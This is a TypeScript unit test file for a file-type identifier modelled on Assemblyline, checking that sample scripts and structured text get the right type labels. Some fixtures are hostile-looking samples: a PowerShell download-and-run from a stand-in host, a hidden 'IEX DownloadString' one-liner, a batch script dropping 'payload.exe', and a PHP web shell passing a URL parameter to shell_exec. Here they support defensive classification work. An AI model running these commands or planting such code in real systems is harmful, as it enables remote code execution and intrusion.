// Unit tests for the text rules: script languages, structured text, and Assemblyline's own
// text signatures (URI files, extracted-script headers).
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { createIdentifier, type Identifier } from '../../../src/core/identify/index.js';

let identifier: Identifier;
const typeOf = (text: string | Buffer, size?: number) => {
  const data = typeof text === 'string' ? Buffer.from(text, 'utf8') : text;
  return identifier.identify(data, { size: size ?? data.length }).type;
};

before(async () => {
  identifier = await createIdentifier();
});

describe('script languages', () => {
  it('JavaScript', () => {
    assert.equal(typeOf('var total = 0;\nfunction add(a, b) {\n  return a + b;\n}\ntotal = add(1, 2);\n'), 'code/javascript');
    assert.equal(
      typeOf('var s = "abc";\nvar n = s.length;\nfor (var i = 0; i < n; i++) { t += s.charCodeAt(i).toString(16); }\n'),
      'code/javascript',
    );
  });

  it('JScript (Windows Script Host JavaScript)', () => {
    const js = 'var sh = new ActiveXObject("WScript.Shell");\nvar fso = new ActiveXObject("Scripting.FileSystemObject");\nsh.Run("calc.exe");\n';
    assert.equal(typeOf(js), 'code/jscript');
  });

  it('VBScript', () => {
    const vbs = [
      'On Error Resume Next',
      'Dim shell',
      'Set shell = CreateObject("WScript.Shell")',
      'Sub Main()',
      '  shell.Run "notepad.exe"',
      'End Sub',
      'Main',
      '',
    ].join('\r\n');
    assert.equal(typeOf(vbs), 'code/vbs');
  });

  it('PowerShell', () => {
    const ps = '$url = "http://example.com/a"\n$wc = New-Object System.Net.WebClient\n$wc.DownloadFile($url, "$env:TEMP\\a.exe")\nStart-Process "$env:TEMP\\a.exe"\n';
    assert.equal(typeOf(ps), 'code/ps1');
    assert.equal(typeOf('powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'x\')"'), 'code/ps1');
  });

  it('batch', () => {
    const bat = '@echo off\r\nset target=%TEMP%\\x\r\ncopy /y payload.exe %target%\r\nreg add HKCU\\Software\\X /v Y /d Z /f\r\ntimeout /t 5\r\nexit\r\n';
    assert.equal(typeOf(bat), 'code/batch');
    assert.equal(typeOf('REM Batch extracted by Assemblyline\nwhoami\n'), 'code/batch');
  });

  it('HTML, HTA and XML', () => {
    assert.equal(typeOf('<!DOCTYPE html>\n<html><head><title>x</title></head><body>hi</body></html>\n'), 'code/html');
    assert.equal(
      typeOf('<html><head><HTA:APPLICATION ID="app" />\n<script language="VBScript">\nSub Window_OnLoad\nEnd Sub\n</script></head></html>\n'),
      'code/hta',
    );
    assert.equal(typeOf('<?xml version="1.0" encoding="UTF-8"?>\n<root><item a="1"/></root>\n'), 'code/xml');
  });

  it('Windows Script Host files', () => {
    assert.equal(typeOf('<job id="a">\n<script language="JScript">\nWScript.Echo("x");\n</script>\n</job>\n'), 'code/wsf');
  });

  it('Python', () => {
    const py = 'import os\nfrom sys import argv\n\ndef main():\n    print(argv)\n\nif __name__ == "__main__":\n    main()\n';
    assert.equal(typeOf(py), 'code/python');
    assert.equal(typeOf('#!/usr/bin/env python3\nprint("x")\n'), 'code/python');
  });

  it('shell scripts', () => {
    assert.equal(typeOf('#!/bin/sh\nset -e\nfor f in *.txt; do\n  echo "$f"\ndone\n'), 'code/shell');
  });

  it('PHP', () => {
    assert.equal(typeOf('<?php\nfunction run($cmd) {\n  return shell_exec($cmd);\n}\necho run($_GET["c"]);\n'), 'code/php');
  });

  it('VBScript-encoded files', () => {
    assert.equal(typeOf('#@~^XAAAAA==W~@#@&zzz'), 'code/vbe');
  });

  it('UTF-16 scripts', () => {
    const ps = '\ufeffGet-ChildItem C:\\ | Where-Object { $_.Length -gt 100 } | Select-Object Name\r\n';
    assert.equal(typeOf(Buffer.from(ps, 'utf16le')), 'code/ps1');
  });
});

describe('structured text', () => {
  it('JSON', () => {
    assert.equal(typeOf('{"name": "x", "values": [1, 2, 3], "nested": {"a": true}}\n'), 'text/json');
  });

  it('CSV only when records line up', () => {
    assert.equal(typeOf('id,name,email\n1,Ann,ann@example.com\n2,Bob,bob@example.com\n3,Cy,cy@example.com\n'), 'text/csv');
  });

  it('INI', () => {
    assert.equal(typeOf('[general]\nname=demo\nversion=1.0\n\n[paths]\ndata=C:\\data\nlogs=C:\\logs\n'), 'text/ini');
  });

  it('e-mail', () => {
    const mail = [
      'From: a@example.com',
      'To: b@example.com',
      'Subject: hi',
      'Date: Mon, 1 Jan 2024 00:00:00 +0000',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/plain',
      '',
      'hello',
      '--b1--',
      '',
    ].join('\r\n');
    assert.equal(typeOf(mail), 'document/email');
  });

  it('plain prose stays text/plain', () => {
    assert.equal(typeOf('This is a plain note.\nIt has two lines and nothing else.\n'), 'text/plain');
  });
});

describe('Assemblyline URI files', () => {
  const uri = (body: string) => typeOf(`# Assemblyline URI file\n${body}`);

  it('labels by URI scheme', () => {
    assert.equal(uri('uri: https://example.com/path?q=1\n'), 'uri/https');
    assert.equal(uri('uri: http://example.com/\nheaders:\n  User-Agent: x\n'), 'uri/http');
    assert.equal(uri('method: GET\nuri: "FTP://files.example.com/a"\n'), 'uri/ftp');
  });

  it('falls back to text/plain without a usable URI', () => {
    assert.equal(uri('method: GET\n'), 'text/plain');
    assert.equal(uri('uri: not a url\n'), 'text/plain');
  });
});

describe('custom signatures', () => {
  it('recognises formats libmagic does not know', () => {
    assert.equal(typeOf('[InternetShortcut]\r\nURL=http://example.com/\r\n'), 'shortcut/web');
    assert.equal(typeOf('#!/usr/bin/env pwsh\nWrite-Output 1\n'), 'code/ps1');
    assert.equal(typeOf('{\\rtf1\\ansi hello}'), 'document/office/rtf');
    const onenote = Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64)]);
    assert.equal(typeOf(onenote), 'document/office/onenote');
  });
});
